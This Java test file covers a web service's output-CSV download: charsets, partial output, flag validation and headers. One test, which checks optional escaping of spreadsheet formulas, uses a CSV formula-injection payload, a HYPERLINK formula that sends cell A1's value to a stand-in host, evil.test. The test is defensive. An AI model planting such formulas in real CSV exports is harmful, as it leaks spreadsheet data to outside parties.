package dev.halftone.app.web;

import static dev.halftone.app.ServerFixture.CSV;
import static dev.halftone.app.ServerFixture.HEADER;
import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;

import dev.halftone.app.ServerFixture;
import dev.halftone.testkit.api.ApiClient;
import dev.halftone.testkit.api.MultipartForm;
import java.net.http.HttpRequest.BodyPublishers;
import java.nio.charset.Charset;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Downloading the output CSV.
class OutputCsvTest {
    @RegisterExtension
    static final ServerFixture server = ServerFixture.start();

    private final ApiClient apiClient = server.client();

    @Test
    void addsOneColumnToTheCsv() {
        var path =
                apiClient.submit(HEADER + "001,\"Chair, oak\",\"http://a.test/1.jpg,http://a.test/missing.jpg\"\r\n");
        apiClient.awaitEnd(path);

        var output = apiClient.get(path + "/output.csv");

        assertThat(output.text().replaceAll("[0-9a-f]{32}", "#"))
                .isEqualTo("Serial Number,Product Name,Input Image URLs,Output Image URLs\r\n"
                        + "001,\"Chair, oak\",\"http://a.test/1.jpg,http://a.test/missing.jpg\","
                        + "\"http://halftone.test/processed_images/#.jpg,\"\r\n");
        assertThat(output.header("Content-Type")).isEqualToIgnoringWhitespace("text/csv; charset=utf-8");
        assertThat(output.header("Content-Disposition"))
                .isEqualTo("attachment; filename=\"products-halftone.csv\"; filename*=UTF-8''products-halftone.csv");
    }

    @ParameterizedTest
    @ValueSource(strings = {"windows-1250", "ISO-8859-2", "UTF-16LE", "Shift_JIS"})
    void readsTheCsvInItsDeclaredCharset(String charset) {
        var name = charset.equals("Shift_JIS") ? "椅子" : "Židle";
        var csv = (HEADER + "1," + name + ",http://a.test/1.jpg\r\n").getBytes(Charset.forName(charset));
        // ISO-8859-1 has a character for each byte.
        var form = MultipartForm.of(new String(csv, ISO_8859_1))
                .text()
                .replace("text/csv", "text/csv; charset=\"" + charset + "\"")
                .getBytes(ISO_8859_1);

        var raw = apiClient.send(
                "POST", "/v1/requests", BodyPublishers.ofByteArray(csv), "Content-Type", "text/csv;charset=" + charset);
        var multipart = apiClient.send(
                "POST", "/v1/requests", BodyPublishers.ofByteArray(form), "Content-Type", MultipartForm.MEDIA_TYPE);

        for (var accepted : List.of(raw, multipart)) {
            assertThat(accepted.status()).as(accepted.text()).isEqualTo(202);
            var path = "/v1/requests/" + accepted.field("/request_id");
            apiClient.awaitEnd(path);
            assertThat(apiClient.get(path + "/output.csv").text()).contains("1," + name + ",http://a.test/1.jpg,http");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"no-such-charset", "?"})
    void rejectsAnUnknownCharset(String charset) {
        var type = "text/csv; charset=" + charset;
        var form = MultipartForm.of(CSV).text().replace("text/csv", type);

        assertThat(apiClient
                        .send("POST", "/v1/requests", BodyPublishers.ofString(CSV), "Content-Type", type)
                        .statusAndCode())
                .isEqualTo("415 unsupported_media_type");
        assertThat(apiClient
                        .send(
                                "POST",
                                "/v1/requests",
                                BodyPublishers.ofString(form),
                                "Content-Type",
                                MultipartForm.MEDIA_TYPE)
                        .statusAndCode())
                .isEqualTo("415 unsupported_media_type");
    }

    @Test
    void returnsTheSameBytesEachTime() {
        var path = apiClient.submit(CSV);
        apiClient.awaitEnd(path);

        var first = apiClient.get(path + "/output.csv").response().body();

        assertThat(apiClient.get(path + "/output.csv").response().body()).isEqualTo(first);
    }

    @Test
    void isAvailableBeforeTheEndOnlyAsPartialOutput() {
        var gate = new CountDownLatch(1);
        server.imageService().holdUntil(gate);
        var path = apiClient.submit(CSV);

        var whole = apiClient.get(path + "/output.csv");
        var partial = apiClient.get(path + "/output.csv?partial=true");
        gate.countDown();

        assertThat(whole.statusAndCode()).isEqualTo("409 not_finished");
        assertThat(partial.status()).isEqualTo(200);
        assertThat(partial.text()).startsWith("Serial Number,Product Name,Input Image URLs,Output Image URLs\r\n");
    }

    @Test
    void escapesFormulasOnlyWhenAskedTo() {
        var path = apiClient.submit(HEADER
                + "-5,\"=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"x\"\")\",http://a.test/1.jpg\r\n"
                + "@SUM(1),Chair,http://a.test/2.jpg\r\n");
        apiClient.awaitEnd(path);

        assertThat(apiClient.get(path + "/output.csv").text())
                .contains("\r\n-5,\"=HYPERLINK(\"\"http://evil.test", "\r\n@SUM(1),Chair,")
                .isEqualTo(apiClient.get(path + "/output.csv?safe=false").text());
        assertThat(apiClient.get(path + "/output.csv?safe=true").text())
                .startsWith("Serial Number,")
                .contains("\r\n-5,\"'=HYPERLINK(\"\"http://evil.test", "\r\n'@SUM(1),Chair,http://a.test/2.jpg,http");
    }

    @ParameterizedTest
    @ValueSource(strings = {"partial", "safe"})
    void rejectsFlagsThatAreNotBoolean(String field) {
        var apiResponse = apiClient.get(apiClient.submit(CSV) + "/output.csv?" + field + "=yes");

        assertThat(apiResponse.statusAndCode()).isEqualTo("422 invalid_option");
        assertThat(apiResponse.field("/field")).isEqualTo(field);
    }

    @Test
    void supportsHead() {
        var path = apiClient.submit(CSV);
        apiClient.awaitEnd(path);

        var head = apiClient.send("HEAD", path + "/output.csv", BodyPublishers.noBody());

        assertThat(head.status()).isEqualTo(200);
        assertThat(head.header("Content-Disposition")).startsWith("attachment");
    }
}
